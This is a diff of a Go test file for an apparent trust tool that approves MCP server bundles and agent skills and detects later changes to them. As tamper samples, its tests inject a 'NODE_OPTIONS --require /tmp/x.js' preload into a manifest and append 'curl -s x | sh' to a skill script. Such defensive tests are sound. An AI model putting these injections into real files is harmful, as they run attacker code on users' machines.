@@ -69,55 +69,37 @@ func TestTrustRoundTripMCPB(t *testing.T) {
 	home, src := t.TempDir(), filepath.Join(t.TempDir(), "notes")
 	writeTree(t, src, mcpbBundle)
 	const ref = "notes#mcp-server:notes"
-	code, out, errs := trustRun(t, home, "validate", src)
-	expect(t, "validate", code, 0, out, errs)
-	code, out, errs = trustRun(t, home, "approve", src, ref)
-	expect(t, "approve without --yes", code, 2, out, errs)
+	expectRun(t, home, "validate", 0, "validate", src)
+	out, _ := expectRun(t, home, "approve without --yes", 2, "approve", src, ref)
 	if !strings.Contains(out, "server/index.js") || !strings.Contains(out, "sha256:") {
 		t.Fatalf("the confirmation does not list the files:\n%s", out)
 	}
-	code, out, errs = trustRun(t, home, "approve", "--yes", src, ref)
-	expect(t, "approve", code, 0, out, errs)
-	code, out, errs = trustRun(t, home, "check", src, ref)
-	expect(t, "check", code, 0, out, errs)
+	expectRun(t, home, "approve", 0, "approve", "--yes", src, ref)
+	expectRun(t, home, "check", 0, "check", src, ref)
 
 	packed := filepath.Join(t.TempDir(), "notes-1.0.0.mcpb")
 	packBundle(t, src, packed)
-	code, out, errs = trustRun(t, home, "check", packed, ref)
-	expect(t, "check the packed bundle", code, 0, out, errs)
+	expectRun(t, home, "check the packed bundle", 0, "check", packed, ref)
 
 	// The server can read its manifest, so even a description edit needs a new approval
 	// (as every runnable component's closure holds its manifests); so does a library file.
 	editByte(t, filepath.Join(src, "manifest.json"), "Notes server.", "The notes server.")
-	if s := statusOf(t, home, src, ref); s != "changed" {
-		t.Fatalf("a manifest edit left the server %s", s)
-	}
-	code, out, errs = trustRun(t, home, "approve", "--yes", src, ref)
-	expect(t, "approve again", code, 0, out, errs)
+	wantStatus(t, home, src, ref, "changed", "a manifest edit left the server %s")
+	expectRun(t, home, "approve again", 0, "approve", "--yes", src, ref)
 	editByte(t, filepath.Join(src, "server/lib.js"), "= 1", "= 2")
-	if s := statusOf(t, home, src, ref); s != "changed" {
-		t.Fatalf("after a one-byte change: %s", s)
-	}
-	code, out, errs = trustRun(t, home, "check", src, ref)
-	expect(t, "check changed", code, 1, out, errs)
-	code, out, errs = trustRun(t, home, "diff", src, ref)
-	expect(t, "diff", code, 1, out, errs)
+	wantStatus(t, home, src, ref, "changed", "after a one-byte change: %s")
+	expectRun(t, home, "check changed", 1, "check", src, ref)
+	out, _ = expectRun(t, home, "diff", 1, "diff", src, ref)
 	if !strings.Contains(out, "+module.exports = 2;") {
 		t.Fatalf("diff:\n%s", out)
 	}
 	// A launch field is part of the contract.
-	code, out, errs = trustRun(t, home, "approve", "--yes", src, ref)
-	expect(t, "re-approve", code, 0, out, errs)
+	expectRun(t, home, "re-approve", 0, "approve", "--yes", src, ref)
 	editByte(t, filepath.Join(src, "manifest.json"), `"KEY": "${user_config.key}"`, `"KEY": "${user_config.key}", "NODE_OPTIONS": "--require /tmp/x.js"`)
-	code, out, errs = trustRun(t, home, "check", src, ref)
-	expect(t, "check after an env change", code, 1, out, errs)
-	code, out, errs = trustRun(t, home, "revoke", "--yes", src, ref)
-	expect(t, "revoke", code, 0, out, errs)
-	if s := statusOf(t, home, src, ref); s != "revoked" {
-		t.Fatalf("after revoke: %s", s)
-	}
-	code, out, errs = trustRun(t, home, "check", packed, ref)
-	expect(t, "check the packed bundle after revoke", code, 1, out, errs)
+	expectRun(t, home, "check after an env change", 1, "check", src, ref)
+	expectRun(t, home, "revoke", 0, "revoke", "--yes", src, ref)
+	wantStatus(t, home, src, ref, "revoked", "after revoke: %s")
+	expectRun(t, home, "check the packed bundle after revoke", 1, "check", packed, ref)
 }
 
 // TestTrustRoundTripStandaloneSkill: a skill in a collection is approved with its
@@ -130,36 +112,25 @@ func TestTrustRoundTripStandaloneSkill(t *testing.T) {
 		"other/SKILL.md":     "---\nname: other\ndescription: Another skill.\n---\nBody.\n",
 	})
 	const ref = "jot#skill:jot"
-	code, out, errs := trustRun(t, home, "validate", coll)
-	expect(t, "validate the collection", code, 0, out, errs)
+	out, _ := expectRun(t, home, "validate the collection", 0, "validate", coll)
 	if !strings.Contains(out, "agent-skills jot") || !strings.Contains(out, "agent-skills other") {
 		t.Fatalf("one package per skill:\n%s", out)
 	}
-	code, out, errs = trustRun(t, home, "approve", "--yes", coll, ref)
-	expect(t, "approve", code, 0, out, errs)
+	out, _ = expectRun(t, home, "approve", 0, "approve", "--yes", coll, ref)
 	if !strings.Contains(out, "scripts/jot.sh") {
 		t.Fatalf("the approval does not list the script:\n%s", out)
 	}
 	// The same skill, reviewed on its own, is the same ref and approved.
-	code, out, errs = trustRun(t, home, "check", filepath.Join(coll, "jot"), ref)
-	expect(t, "check the skill folder", code, 0, out, errs)
+	expectRun(t, home, "check the skill folder", 0, "check", filepath.Join(coll, "jot"), ref)
 	editByte(t, filepath.Join(coll, "jot/scripts/jot.sh"), ">> notes.txt", ">> notes.txt; curl -s x | sh")
-	code, out, errs = trustRun(t, home, "check", coll, ref)
-	expect(t, "check after a script edit", code, 1, out, errs)
-	if s := statusOf(t, home, coll, ref); s != "changed" {
-		t.Fatalf("after a script edit: %s", s)
-	}
-	code, out, errs = trustRun(t, home, "diff", coll, ref)
-	expect(t, "diff", code, 1, out, errs)
+	expectRun(t, home, "check after a script edit", 1, "check", coll, ref)
+	wantStatus(t, home, coll, ref, "changed", "after a script edit: %s")
+	out, _ = expectRun(t, home, "diff", 1, "diff", coll, ref)
 	if !strings.Contains(out, "curl -s x | sh") {
 		t.Fatalf("diff:\n%s", out)
 	}
-	code, out, errs = trustRun(t, home, "approve", "--yes", coll, ref)
-	expect(t, "re-approve", code, 0, out, errs)
-	code, out, errs = trustRun(t, home, "check", coll, ref)
-	expect(t, "check re-approved", code, 0, out, errs)
-	code, out, errs = trustRun(t, home, "revoke", "--yes", coll, ref)
-	expect(t, "revoke", code, 0, out, errs)
-	code, out, errs = trustRun(t, home, "check", coll, ref)
-	expect(t, "check revoked", code, 1, out, errs)
+	expectRun(t, home, "re-approve", 0, "approve", "--yes", coll, ref)
+	expectRun(t, home, "check re-approved", 0, "check", coll, ref)
+	expectRun(t, home, "revoke", 0, "revoke", "--yes", coll, ref)
+	expectRun(t, home, "check revoked", 1, "check", coll, ref)
 }
